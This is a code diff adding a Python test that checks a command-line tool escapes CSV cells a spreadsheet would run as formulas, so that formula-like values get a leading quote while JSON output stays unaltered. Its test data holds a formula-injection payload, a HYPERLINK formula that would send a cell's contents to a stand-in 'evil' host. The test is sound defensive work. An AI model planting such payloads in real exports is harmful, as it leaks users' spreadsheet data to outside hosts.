@@ -338,3 +338,33 @@ def test_explain_finds_ids_written_with_json_escapes(tmp_path: Path) -> None:
     twice = tmp_path / "t.jsonl"
     twice.write_text('{"id": "A/B"}\n{"id": "A\\/B"}\n')
     _located(_run("explain", "A/B", FACTS_CITY, str(twice)), "t.jsonl:2", "duplicate")
+
+
+# ---- 8. CSV cells that a spreadsheet would run ---------------------------------------------------------------
+
+
+def test_csv_cells_starting_like_a_formula_are_text(tmp_path: Path) -> None:
+    import csv
+    import io
+    import json
+
+    import yaml
+
+    shipped = yaml.safe_load((ROOT / "facts" / "companies.yaml").read_text(encoding="utf-8"))["companies"]
+    ids = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tA", "\rB", "＝1+1", "safe"]
+    companies = []
+    for ident, co in zip(ids, shipped, strict=False):
+        companies.append(dict(co, id=ident))
+    data = tmp_path / "d.json"
+    data.write_text(json.dumps({"companies": companies}, default=str))
+    result = _run("evaluate", FACTS_CITY, str(data), "--workers", "0", "--format", "csv")
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    seen = {r["company"] for r in rows}
+    assert "safe" in seen and len(seen) == len(ids), seen
+    for r in rows:
+        for key, cell in r.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), (key, cell)
+    assert "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")" in seen and "'-2+3" in seen
+    json_out = _run("evaluate", FACTS_CITY, str(data), "--workers", "0", "--format", "json")
+    assert {r["company"] for r in json.loads(json_out.stdout)["results"]} == set(ids)  # JSON: the data as it is
